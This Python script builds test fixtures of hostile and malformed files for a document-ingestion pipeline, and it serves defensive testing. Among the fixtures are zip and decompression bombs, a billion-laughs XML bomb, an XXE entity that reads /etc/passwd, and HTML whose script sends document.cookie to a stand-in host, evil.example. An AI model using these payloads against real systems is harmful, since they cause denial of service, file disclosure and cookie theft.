#!/usr/bin/env python3
"""Write a corpus of hostile or broken files for the ingestion tests (docs/knowledge-ingestion.md).

Usage: python scripts/hostile_corpus.py OUTPUT_DIR

Each file is named after what it is; ``manifest.json`` maps every file name to the outcome
ingestion must give it: a rejection reason code (``knowledge/reasons.py``) or ``"accepted"``
(for files that are awkward but legitimate, such as HTML with scripts, which must be cleaned).
Everything is generated (no download); the whole corpus takes about a second and a few MB
(the oversize file is sparse).
"""

from __future__ import annotations

import io
import json
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from knowledge.samples import docx_paragraph, make_docx, make_pdf, report_pages  # noqa: E402

OVERSIZE_BYTES = 60 * 1024 * 1024  # above the default 50 MB limit
BOMB_BYTES = 300 * 1024 * 1024  # above the default 256 MB decompression budget


def _deflate_zeros(total: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(total // len(chunk))]
    parts.append(compressor.flush())
    return b"".join(parts)


def _declared_size_bomb() -> bytes:
    """A DOCX whose central directory declares a 4 GB document.xml (the real part is small)."""
    data = bytearray(make_docx([docx_paragraph("Declared sizes lie.")]))
    position = data.find(b"PK\x01\x02")
    while position != -1:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        name = bytes(data[position + 46 : position + 46 + name_length])
        if name == b"word/document.xml":
            struct.pack_into("<I", data, position + 24, 0xFFFFFFF0)
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def _ratio_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document>" + b" " * (40 * 1024 * 1024))
    return out.getvalue()


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE doc [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""

HTML_WITH_SCRIPT = """<!DOCTYPE html><html><head><title>Conclusions of the meeting</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{display:none}</style></head><body>
<h1>Conclusions of the meeting</h1>
<iframe src="https://evil.example/"></iframe>
<p onclick="alert(1)">The partners of the Dialogue adopted the following recommendations.</p>
<ol><li>Create a network of contact points on return.</li>
<li>Strengthen the protection of migrants and refugees.</li></ol>
<object data="x.swf"></object><embed src="x.swf">
<script>alert('still here')</script>
</body></html>"""

FRENCH = (
    "Conclusions de la réunion\n\n"
    "Les partenaires du Dialogue ont examiné la mise en œuvre du plan d'action et ont "
    "souligné l'importance de la coopération entre les pays d'origine, de transit et de "
    "destination.\n\n1. Créer un réseau de points de contact sur le retour.\n"
)


def build(out: Path) -> dict[str, str]:
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20261123)
    good_pdf = make_pdf(report_pages(3), title="Conclusions")
    good_docx = make_docx(
        [
            docx_paragraph("Conclusions", style="Heading1"),
            docx_paragraph("The partners adopted recommendations."),
        ]
    )
    files: dict[str, tuple[bytes | None, str]] = {}

    def add(name: str, data: bytes | None, expected: str) -> None:
        files[name] = (data, expected)

    # PDF
    add("encrypted.pdf", make_pdf(report_pages(1), password="secret"), "encrypted")
    add("truncated.pdf", good_pdf[: len(good_pdf) * 6 // 10], "truncated")
    broken = good_pdf.replace(b"obj", b"jbo").replace(b"xref", b"fxer")
    add("corrupt-xref.pdf", broken, "corrupt")
    add(
        "garbage-after-header.pdf",
        b"%PDF-1.7\n" + rng.randbytes(20_000).replace(b"%%EOF", b"xxxxx") + b"\n%%EOF\n",
        "corrupt",
    )
    add(
        "decompression-bomb.pdf",
        make_pdf(report_pages(1), extra_streams=[_deflate_zeros(BOMB_BYTES)]),
        "decompressed_too_large",
    )
    add("no-text.pdf", make_pdf([[("", 10)]]), "no_text")
    add("zero-pages.pdf", make_pdf([], raw_contents=[]), "corrupt")
    add("empty.pdf", b"", "empty")
    add("program-named.pdf", b"MZ\x90\x00\x03" + rng.randbytes(4000), "wrong_type")
    add("image-named.pdf", b"\x89PNG\r\n\x1a\n" + rng.randbytes(4000), "wrong_type")
    add("postscript-named.pdf", b"%!PS-Adobe-3.0\n%%Pages: 1\nshowpage\n", "wrong_type")
    # Office and ZIP
    add("zip-bomb-declared-sizes.docx", _declared_size_bomb(), "zip_bomb")
    add("zip-bomb-ratio.docx", _ratio_bomb(), "zip_ratio")
    add("billion-laughs.docx", make_docx([], document_xml=BILLION_LAUGHS), "xml_bomb")
    add("external-entity.docx", make_docx([], document_xml=EXTERNAL_ENTITY), "xml_external")
    not_docx = io.BytesIO()
    with zipfile.ZipFile(not_docx, "w") as archive:
        archive.writestr("photos/readme.txt", "holiday pictures")
    add("archive-named.docx", not_docx.getvalue(), "not_docx")
    add("truncated.docx", good_docx[: len(good_docx) // 2], "truncated")
    add("broken-xml.docx", make_docx([], document_xml="<w:document><w:body><w:p>"), "corrupt")
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        for n in range(2_500):
            archive.writestr(f"word/media/part{n}.xml", "")
    add("too-many-parts.docx", many.getvalue(), "too_many_parts")
    encrypted_entry = bytearray(good_docx)
    position = encrypted_entry.find(b"PK\x01\x02")
    while position != -1:
        struct.pack_into(
            "<H",
            encrypted_entry,
            position + 8,
            struct.unpack_from("<H", encrypted_entry, position + 8)[0] | 1,
        )
        position = encrypted_entry.find(b"PK\x01\x02", position + 4)
    add("password-zip.docx", bytes(encrypted_entry), "encrypted")
    add("old-word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "old_office")
    add("image-named.docx", b"\xff\xd8\xff\xe0\x00\x10JFIF" + rng.randbytes(3000), "wrong_type")
    # Text and HTML
    add("binary-garbage.txt", rng.randbytes(50_000), "binary")
    add("nul-bytes.txt", b"\0" * 10_000, "binary")
    add("whitespace-only.txt", b" \n\n\t \r\n" * 100, "no_text")
    add("program-named.txt", b"\x7fELF\x02\x01\x01" + rng.randbytes(3000), "wrong_type")
    add("gzip-named.md", b"\x1f\x8b\x08\x00" + rng.randbytes(3000), "wrong_type")
    add("database-named.md", b"SQLite format 3\x00" + rng.randbytes(3000), "wrong_type")
    add("oversize.txt", None, "too_large")
    add(
        "deeply-nested.html",
        b"<html><body>" + b"<div>" * 100_000 + b"deep" + b"</div>" * 100_000,
        "too_deep",
    )
    add(
        "only-script.html",
        b"<html><head><script>alert(1)</script></head><body><script>steal()</script></body></html>",
        "no_text",
    )
    # Awkward but legitimate: must be accepted (and cleaned).
    add("script-and-iframes.html", HTML_WITH_SCRIPT.encode(), "accepted")
    add("utf16-with-bom.txt", b"\xff\xfe" + FRENCH.encode("utf-16-le"), "accepted")
    add("utf16-without-bom.txt", FRENCH.encode("utf-16-le"), "accepted")
    add("windows-1252.txt", FRENCH.replace("œ", "oe").encode("cp1252"), "accepted")
    add("pdf-named.txt", good_pdf, "accepted")

    manifest = {}
    for name, (data, expected) in files.items():
        path = out / name
        if data is None:
            with open(path, "wb") as handle:  # sparse: costs no disk
                handle.truncate(OVERSIZE_BYTES)
        else:
            path.write_bytes(data)
        manifest[name] = expected
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True))
    return manifest


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print(__doc__.strip().splitlines()[2], file=sys.stderr)
        return 2
    manifest = build(Path(argv[1]))
    print(f"{len(manifest)} files written to {argv[1]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
